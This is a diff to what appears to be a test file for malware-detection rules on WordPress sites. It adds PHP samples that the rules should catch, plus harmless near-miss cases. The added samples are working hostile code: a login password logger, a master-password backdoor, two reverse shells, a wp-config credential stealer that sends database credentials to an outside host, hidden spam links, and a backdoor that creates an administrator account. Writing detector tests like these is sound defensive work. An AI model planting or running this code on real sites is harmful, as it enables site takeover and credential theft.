@@ -67,6 +67,14 @@ VARIANTS: dict[str, str] = {
     "phish_discord_webhook": "<?php\n$msg = array('content' => \"**New login**\\nEmail: {$_POST['login']}\\nPassword: {$_POST['passwd']}\\nIP: {$_SERVER['REMOTE_ADDR']}\");\n$ch = curl_init('https://discord.com/api/webhooks/112233445566778899/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789');\ncurl_setopt($ch, CURLOPT_POST, 1);\ncurl_setopt($ch, CURLOPT_POSTFIELDS, json_encode($msg));\ncurl_setopt($ch, CURLOPT_HTTPHEADER, array('Content-Type: application/json'));\ncurl_exec($ch);\nheader('Location: https://outlook.live.com');\n",
     "include_hidden_dot_php": "<?php\ninclude_once '/home/site/public_html/wp-content/plugins/akismet/views/.e5d9c1a0.php';\n",
     "xmlrpc_brute": "<?php\n$target = $_POST['target'];\n$pwds = explode(\"\\n\", $_POST['passwords']);\nforeach ($pwds as $pw) {\n    $xml = \"<?xml version=\\\"1.0\\\"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>{$_POST['user']}</value></param><param><value>\" . trim($pw) . \"</value></param></params></methodCall>\";\n    $ch = curl_init($target . '/xmlrpc.php');\n    curl_setopt($ch, CURLOPT_POSTFIELDS, $xml);\n    curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n    if (strpos(curl_exec($ch), 'isAdmin') !== false) { echo \"FOUND: $pw\"; break; }\n}\n",
+    "wp_login_password_logger": "<?php\nadd_action('wp_authenticate', function ($username, $password) {\n    if (!empty($password)) {\n        @file_put_contents(WP_CONTENT_DIR . '/uploads/.sess.log', $username . ':' . $password . \"\\n\", FILE_APPEND);\n    }\n}, 1, 2);\n",
+    "wp_master_password": "<?php\nadd_filter('authenticate', function ($user, $username, $password) {\n    if ($password === 'Xc9!mAst3r#pw') {\n        $u = get_user_by('login', $username);\n        if ($u) return $u;\n    }\n    return $user;\n}, 1, 3);\n",
+    "revshell_popen_relay": "<?php\n$sock = stream_socket_client('tcp://' . $_GET['host'] . ':' . $_GET['port']);\nwhile (($cmd = fgets($sock)) !== false) {\n    $p = popen($cmd, 'r');\n    while (!feof($p)) { fwrite($sock, fread($p, 4096)); }\n    pclose($p);\n}\n",
+    "wpconfig_stealer": "<?php\n$cfg = @file_get_contents($_SERVER['DOCUMENT_ROOT'] . '/wp-config.php');\npreg_match_all(\"/define\\(\\s*'(DB_NAME|DB_USER|DB_PASSWORD|DB_HOST)',\\s*'([^']*)'/\", $cfg, $m);\n$q = http_build_query(array_combine($m[1], $m[2]));\n@file_get_contents('http://collect-cfg.top/c.php?h=' . $_SERVER['HTTP_HOST'] . '&' . $q);\n",
+    "hidden_links_option": "<?php\nif (isset($_POST['wp_seo_l'])) { update_option('wp_seo_l', stripslashes($_POST['wp_seo_l'])); exit('ok'); }\nadd_filter('the_content', function ($c) {\n    return $c . '<div style=\"display:none\">' . get_option('wp_seo_l') . '</div>';\n});\n",
+    "include_dot_jpg": "<?php\ninclude_once(dirname(__FILE__) . '/../../uploads/.thumb-cache.jpg');\n",
+    "revshell_python_exec": '<?php\n$ip = $_GET[\'i\']; $port = $_GET[\'p\'];\nexec("python -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\\"$ip\\",$port));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\\"/bin/sh\\",\\"-i\\"])\' > /dev/null 2>&1 &");\n',
+    "wp_admin_header_creds": "<?php\nadd_action('init', function () {\n    if (!empty($_SERVER['HTTP_X_WPU']) && !username_exists($_SERVER['HTTP_X_WPU'])) {\n        $id = wp_insert_user(array('user_login' => $_SERVER['HTTP_X_WPU'], 'user_pass' => $_SERVER['HTTP_X_WPP'], 'role' => 'administrator'));\n    }\n});\n",
     "phish_bank_card_and_password": "<?php\n$cliente = $_POST['cliente'];\n$cpf = $_POST['cpf'];\n$senha = $_POST['senha_internet'];\n$cartao = $_POST['num_cartao'];\n$validade = $_POST['validade'];\n$cvv = $_POST['cvv'];\ninclude 'enviar.php';\nheader('Location: aguarde.php');\n",
 }
 
@@ -126,6 +134,14 @@ HITS: list[tuple[str, str]] = [
     ("SPAMGEAR_HOSTINF_TelegramCredentialExfil", "phish_discord_webhook"),
     ("SPAMGEAR_HOSTINF_IncludeIconFile", "include_hidden_dot_php"),
     ("SPAMGEAR_HOSTINF_XmlrpcBruteForcer", "xmlrpc_brute"),
+    ("SPAMGEAR_HOSTINF_LoginPasswordLogger", "wp_login_password_logger"),
+    ("SPAMGEAR_HOSTINF_MasterPasswordAuth", "wp_master_password"),
+    ("SPAMGEAR_HOSTINF_SocketCommandLoop", "revshell_popen_relay"),
+    ("SPAMGEAR_HOSTINF_ConfigCredsSentOut", "wpconfig_stealer"),
+    ("SPAMGEAR_HOSTINF_HiddenOptionLinks", "hidden_links_option"),
+    ("SPAMGEAR_HOSTINF_IncludeIconFile", "include_dot_jpg"),
+    ("SPAMGEAR_HOSTINF_ScriptedReverseShell", "revshell_python_exec"),
+    ("SPAMGEAR_HOSTINF_WpAdminFixedCreds", "wp_admin_header_creds"),
     ("SPAMGEAR_HOSTINF_CvvAndPasswordCapture", "phish_bank_card_and_password"),
 ]
 
@@ -294,6 +310,34 @@ NEAR_MISSES: list[tuple[str, str]] = [
     (
         "SPAMGEAR_HOSTINF_TelegramCredentialExfil",
         "<?php\n$hook = get_option('discord_webhook');\nwp_remote_post('https://discord.com/api/webhooks/' . $hook, array('body' => array('content' => 'New comment by ' . $_POST['author'])));\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_LoginPasswordLogger",
+        "<?php\nadd_action('wp_login_failed', function ($username) {\n    $ip = $_SERVER['REMOTE_ADDR'];\n    error_log(sprintf('failed login for %s from %s', sanitize_user($username), $ip));\n});\nadd_action('wp_login', function ($login, $user) {\n    update_user_meta($user->ID, 'last_login', time());\n}, 10, 2);\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_MasterPasswordAuth",
+        "<?php\nadd_filter('authenticate', function ($user, $username, $password) {\n    if ($password === '') {\n        return new WP_Error('empty_password', __('The password field is empty.'));\n    }\n    $u = get_user_by('login', $username);\n    return $user;\n}, 30, 3);\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_ConfigCredsSentOut",
+        "<?php\n$cfg = file_get_contents(ABSPATH . 'wp-config.php');\nif (strpos($cfg, 'DB_PASSWORD') === false) { echo 'wp-config.php looks incomplete'; }\n$resp = wp_remote_get($update_url);\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_HiddenOptionLinks",
+        "<?php\nif (isset($_POST['promo_text']) && check_admin_referer('promo_save')) { update_option('promo_text', wp_kses_post($_POST['promo_text'])); }\nadd_filter('the_content', function ($c) {\n    return $c . '<div class=\"promo\" style=\"display:none\">' . get_option('promo_text') . '</div>';\n});\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_ScriptedReverseShell",
+        "<?php\n// Python helper that talks to the local daemon socket\n$out = shell_exec('python3 ' . escapeshellarg(__DIR__ . '/helper.py') . ' --status');\necho '<pre>socket.socket is used by the helper</pre>';\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_IncludeIconFile",
+        "<?php\n$thumb = $upload_dir['basedir'] . '/thumbs/.cache-thumb.jpg';\ninclude __DIR__ . '/views/gallery.php';\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_WpAdminFixedCreds",
+        "<?php\n$login = sanitize_user( $_SERVER['HTTP_X_REMOTE_USER'] );\nif ( $login && ! username_exists( $login ) && current_user_can( 'create_users' ) ) {\n\twp_insert_user( array( 'user_login' => $login, 'user_pass' => wp_generate_password(), 'role' => 'subscriber' ) );\n}\n",
     ),
 ]
 
